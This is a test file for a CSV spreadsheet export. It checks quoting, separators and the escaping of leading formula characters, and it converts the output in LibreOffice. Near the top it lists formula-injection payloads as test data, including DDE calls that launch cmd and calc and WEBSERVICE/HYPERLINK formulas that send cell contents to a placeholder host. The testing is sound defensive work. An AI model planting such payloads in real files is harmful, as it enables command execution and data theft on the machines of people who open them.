import { describe, expect, it } from 'vitest';
import { csv, startPlanCsv } from '#shared/documents/csv.ts';
import { convertByOffice } from '../../support/readers.ts';
import { ownItem, planFacts } from '../../support/start-plan-facts.ts';

const payloads = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '＝', '＋', '－', '＠'].flatMap((sign) => [
  `${sign}1+1`,
  `${sign}cmd|' /C calc'!A0`,
  `${sign}HYPERLINK("https://eksempel.no?"&A1;"trykk")`,
  `${sign}WEBSERVICE("https://eksempel.no")`,
  `${sign}2+5+cmd|'/c calc'!A0";;"=1`,
  `${sign}IMPORTXML(CONCAT("";A1);"//a")`,
  `${sign}DDE("cmd";"/C calc";"1")`,
  `${sign}10*2`,
  `${sign}SUM(A1:A9)`,
]);

describe('the table for a spreadsheet', () => {
  it('begins with the byte order mark, parts by semicolon, quotes every cell and ends lines with CRLF', () => {
    expect(
      csv([
        ['a', 'b;"c"'],
        ['linje\nto', ''],
      ]),
    ).toBe('\uFEFF"a";"b;""c"""\r\n"linje\nto";""\r\n');
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['  -1', "'  -1"],
    ['+47 12 34 56 78', "'+47 12 34 56 78"],
    ['@ordfører', "'@ordfører"],
    ['\tx', "'\tx"],
    ['a=1', 'a=1'],
    ['– tankestrek', '– tankestrek'],
    ['17.10.2023', '17.10.2023'],
  ])('writes %j as %j', (text, cell) => {
    expect(csv([[text]])).toBe(`\uFEFF"${cell}"\r\n`);
  });

  it(`stays text in LibreOffice: none of ${payloads.length} formulas runs`, async () => {
    const table = csv(payloads.map((payload) => [payload, 'etter']));
    const sheet = (
      await convertByOffice('farlig.csv', table, 'fods', 'Text - txt - csv (StarCalc):59,34,76,1')
    ).toString();
    expect(sheet).not.toContain('table:formula');
    expect(sheet.match(/office:value-type="string"/g)).toHaveLength(payloads.length * 2);
    expect(sheet).not.toMatch(/office:value-type="(?!string)/);
  }, 60_000);

  it('has one line for each item that is not in the bin, with who, when, status and source', () => {
    const lines = startPlanCsv(
      planFacts({ items: [...planFacts().items, ownItem({ deletedAt: '2023-10-01T00:00:00.000Z' })] }),
    ).split('\r\n');
    expect(lines).toHaveLength(1 + 84 + 1);
    expect(lines[0]).toBe(
      '\uFEFF"Fase";"Punkt";"Hvorfor";"Tema";"Ansvarlig";"Frist";"Status";"Gjort dato";"Gjort av";"Begrunnelse";"Merknad";"Kilde";"Lenke til sak"',
    );
    expect(lines[1]).toMatch(
      /^"Forberedelse";"Lag en tidsplan .*;"12\.08\.2023";"Gjort";"05\.10\.2023";"Astrid Demodal";/,
    );
  });
});
